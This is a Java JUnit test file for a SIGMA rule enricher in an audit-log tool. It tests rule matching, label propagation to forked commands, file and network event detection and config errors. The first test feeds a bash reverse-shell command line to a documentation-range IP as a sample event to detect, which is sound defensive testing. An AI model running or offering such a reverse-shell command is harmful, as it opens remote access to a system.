package dev.laurel.plugins.sigma;

import dev.laurel.api.AuditEvent;
import dev.laurel.api.ConfigException;
import dev.laurel.api.Enricher;
import dev.laurel.api.PluginContext;
import dev.laurel.api.ProcessTable;
import dev.laurel.api.RecordType;
import dev.laurel.api.Value;
import dev.laurel.engine.process.ProcessTracker;
import dev.laurel.plugins.testkit.MapConfig;
import dev.laurel.plugins.testkit.RecordingLogger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** The enricher as a chain entry: options, SIGMA, labels, the file and network categories. */
class SigmaTest {

    @TempDir
    Path dir;

    private final ProcessTracker table = new ProcessTracker();
    private final RecordingLogger log = new RecordingLogger();

    private PluginContext context() {
        return new PluginContext() {
            @Override
            public System.Logger logger() {
                return log;
            }

            @Override
            public ProcessTable processes() {
                return table;
            }
        };
    }

    private Enricher sigma(Map<String, Object> options) throws ConfigException {
        return new SigmaFactory().create(MapConfig.of("sigma", options), context());
    }

    private void run(Enricher e, AuditEvent event) {
        table.observe(event);
        e.enrich(event);
    }

    private static List<String> titles(AuditEvent e) {
        List<String> t = new ArrayList<>();
        if (e.extra("SIGMA") instanceof Value.ListValue list) {
            for (Value v : list.items()) {
                t.add(((Value.ObjectValue) v).fields().get("title").toString());
            }
        }
        return t;
    }

    private static List<Value> labels(AuditEvent e) {
        return e.first(RecordType.SYSCALL).get("LABELS") instanceof Value.ListValue l ? l.items() : List.of();
    }

    private Path rule(String name, String text) throws IOException {
        return Files.writeString(dir.resolve(name), text);
    }

    @Test
    void aMatchedShellsLabelReachesBothCommandsItForksAndExecs() throws Exception {
        Enricher sigma = sigma(Map.of("rules", List.of(RuleSetTest.rules().toString()),
                "label-tags", Map.of("attack.execution", "sigma-execution"),
                "propagate-labels", List.of("sigma-execution")));
        AuditEvent shell = TestEvents.exec(200, 1, Map.of("Image", "/usr/bin/bash",
                "CommandLine", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"));
        run(sigma, shell);
        assertThat(titles(shell)).contains("Bash Interactive Shell");
        assertThat(labels(shell)).contains(Value.text("sigma-execution"));
        run(sigma, TestEvents.event(List.of("syscall clone syscall=56 pid=200 ppid=1 exit=201")));
        AuditEvent id = TestEvents.exec(201, 200, Map.of("Image", "/usr/bin/id", "CommandLine", "id"));
        run(sigma, id);
        run(sigma, TestEvents.event(List.of("syscall clone syscall=56 pid=200 ppid=1 exit=202")));
        AuditEvent uname = TestEvents.exec(202, 200, Map.of("Image", "/usr/bin/uname", "CommandLine", "uname -a"));
        run(sigma, uname);
        AuditEvent unrelated = TestEvents.exec(300, 1, Map.of("Image", "/usr/bin/uname", "CommandLine", "uname -a"));
        run(sigma, unrelated);
        assertThat(labels(id)).containsExactly(Value.text("sigma-execution"));
        assertThat(labels(uname)).containsExactly(Value.text("sigma-execution"));
        assertThat(labels(unrelated)).isEmpty();
    }

    @Test
    void sigmaListsEveryMatchedRuleInRuleFileOrderWithIdTitleLevelTags() throws Exception {
        String head = "logsource:\n    category: process_creation\n    product: linux\n";
        rule("a.yml", "title: second in file b? no, first\nid: 1\nlevel: low\ntags: [attack.t1]\n" + head
                + "detection:\n    s:\n        Image|endswith: /curl\n    condition: s\n");
        rule("b.yml", "title: by name after a\nid: 2\nlevel: high\n" + head
                + "detection:\n    s:\n        CommandLine|contains: http\n    condition: s\n");
        Enricher sigma = sigma(Map.of("rules", List.of(dir.toString())));
        AuditEvent e = TestEvents.exec(400, 1, Map.of("Image", "/usr/bin/curl", "CommandLine", "curl http://x"));
        run(sigma, e);
        assertThat(e.extra("SIGMA")).isEqualTo(Value.list(List.of(
                Value.object(Map.of("id", Value.text("1"), "title", Value.text("second in file b? no, first"),
                        "level", Value.text("low"), "tags", Value.list(List.of(Value.text("attack.t1"))))),
                Value.object(Map.of("id", Value.text("2"), "title", Value.text("by name after a"),
                        "level", Value.text("high"), "tags", Value.list(List.of()))))));
        assertThat(((Value.ObjectValue) ((Value.ListValue) e.extra("SIGMA")).items().get(0)).fields().keySet())
                .containsExactly("id", "title", "level", "tags");
        AuditEvent none = TestEvents.exec(401, 1, Map.of("Image", "/usr/bin/ls", "CommandLine", "ls"));
        run(sigma, none);
        assertThat(none.extra("SIGMA")).isNull();
    }

    @Test
    void parentImageAndParentCommandLineComeFromTheProcessTable() throws Exception {
        rule("p.yml", "title: p\nlogsource:\n    category: process_creation\n    product: linux\n"
                + "detection:\n    s:\n        ParentImage: /usr/bin/python3\n"
                + "        ParentCommandLine: python3 app.py\n        Image: /usr/bin/sh\n    condition: s\n");
        Enricher sigma = sigma(Map.of("rules", List.of(dir.toString())));
        run(sigma, TestEvents.exec(500, 1, Map.of("Image", "/usr/bin/python3", "CommandLine", "python3 app.py")));
        run(sigma, TestEvents.event(List.of("syscall clone syscall=56 pid=500 ppid=1 exit=501")));
        AuditEvent child = TestEvents.exec(501, 500, Map.of("Image", "/usr/bin/sh", "CommandLine", "sh"));
        run(sigma, child);
        assertThat(titles(child)).containsExactly("p");
        // another parent of the same image but another command line
        run(sigma, TestEvents.exec(600, 1, Map.of("Image", "/usr/bin/python3", "CommandLine", "python3 other.py")));
        AuditEvent other = TestEvents.exec(601, 600, Map.of("Image", "/usr/bin/sh", "CommandLine", "sh"));
        run(sigma, other);
        assertThat(titles(other)).isEmpty();
    }

    @Test
    void fileEventsAreCreatedPathsWithTheirNameMadeAbsolute() throws Exception {
        rule("f.yml", "title: cron file\nlogsource:\n    category: file_event\n    product: linux\n"
                + "detection:\n    s:\n        TargetFilename|startswith: /etc/cron.d/\n        Image|endswith: /bash\n"
                + "    condition: s\n");
        Enricher sigma = sigma(Map.of("rules", List.of(dir.toString())));
        AuditEvent created = TestEvents.event(List.of(
                "syscall openat syscall=257 pid=700 exe=\"/usr/bin/bash\"",
                "type=CWD cwd=\"/etc/cron.d\"",
                "type=PATH item=0 name=\"/etc/cron.d\" nametype=PARENT",
                "type=PATH item=1 name=\"evil\" nametype=CREATE"));
        run(sigma, created);
        assertThat(titles(created)).containsExactly("cron file");
        AuditEvent read = TestEvents.event(List.of(
                "syscall openat syscall=257 pid=700 exe=\"/usr/bin/bash\"",
                "type=CWD cwd=\"/etc/cron.d\"",
                "type=PATH item=0 name=\"evil\" nametype=NORMAL"));
        run(sigma, read);
        assertThat(titles(read)).isEmpty();
    }

    @Test
    void networkConnectionsAreConnectsAndAcceptsWithTheirAddress() throws Exception {
        rule("n.yml", "title: out 4444\nlogsource:\n    category: network_connection\n    product: linux\n"
                + "detection:\n    s:\n        DestinationIp|cidr: 203.0.113.0/24\n        DestinationPort: 4444\n"
                + "        Initiated: 'true'\n        Image|endswith: /bash\n    condition: s\n");
        Enricher sigma = sigma(Map.of("rules", List.of(dir.toString())));
        String saddr = "type=SOCKADDR saddr=0200115CCB0071050000000000000000";
        AuditEvent connect = TestEvents.event(List.of("syscall connect syscall=42 exe=\"/usr/bin/bash\"", saddr));
        run(sigma, connect);
        assertThat(titles(connect)).containsExactly("out 4444");
        AuditEvent accept = TestEvents.event(List.of("syscall accept syscall=43 exe=\"/usr/bin/bash\"", saddr));
        run(sigma, accept);
        assertThat(titles(accept)).isEmpty();
        AuditEvent otherPort = TestEvents.event(List.of("syscall connect syscall=42 exe=\"/usr/bin/bash\"",
                "type=SOCKADDR saddr=02000050CB0071050000000000000000"));
        run(sigma, otherPort);
        assertThat(titles(otherPort)).isEmpty();
    }

    @Test
    void fieldMapAddsFieldsTheCategoriesLack() throws Exception {
        rule("m.yml", "title: comm\nlogsource:\n    category: process_creation\n    product: linux\n"
                + "detection:\n    s:\n        Comm: x\n        Tty: pts0\n    condition: s\n");
        Enricher sigma = sigma(Map.of("rules", List.of(dir.toString()),
                "field-map", Map.of("Comm", "SYSCALL.comm", "Tty", "tty")));
        AuditEvent e = TestEvents.exec(800, 1, Map.of("Image", "/usr/bin/ls", "CommandLine", "ls"));
        run(sigma, e);
        assertThat(titles(e)).containsExactly("comm");
    }

    @Test
    void loadingLogsHowManyRulesLoadedAndEachSkippedOneWithItsReason() throws Exception {
        rule("ok.yml", "title: ok\nlogsource:\n    category: process_creation\n    product: linux\n"
                + "detection:\n    s:\n        Image: x\n    condition: s\n");
        Path skipped = rule("win.yml", "title: win\nlogsource:\n    product: windows\n"
                + "detection:\n    s:\n        Image: x\n    condition: s\n");
        sigma(Map.of("rules", List.of(dir.toString())));
        assertThat(log.lines()).containsExactly(
                "WARNING rule skipped: " + skipped + ":3: 'win': log source product 'windows'"
                        + " (laurel's events are product: linux)",
                "INFO 1 rules loaded, 1 skipped, 0 left out by statuses/min-level");
    }

    @Test
    void badRuleFilesAndOptionsAreConfigErrorsTogether() throws Exception {
        Path bad = rule("bad.yml", "title: bad\nlogsource:\n    category: process_creation\n"
                + "detection:\n    s:\n        Image: x\n    condition: s or\n");
        assertThatThrownBy(() -> sigma(Map.of("rules", List.of(dir.toString()),
                "label-levels", Map.of("severe", "x"))))
                .isInstanceOf(ConfigException.class)
                .satisfies(e -> assertThat(((ConfigException) e).problems()).containsExactly(
                        new ConfigException.Problem("label-levels",
                                "'severe' is not a level; use informational, low, medium, high or critical"),
                        new ConfigException.Problem("rules", bad + ":7:16: rule 'bad': the condition ends too early: s or")));
    }
}
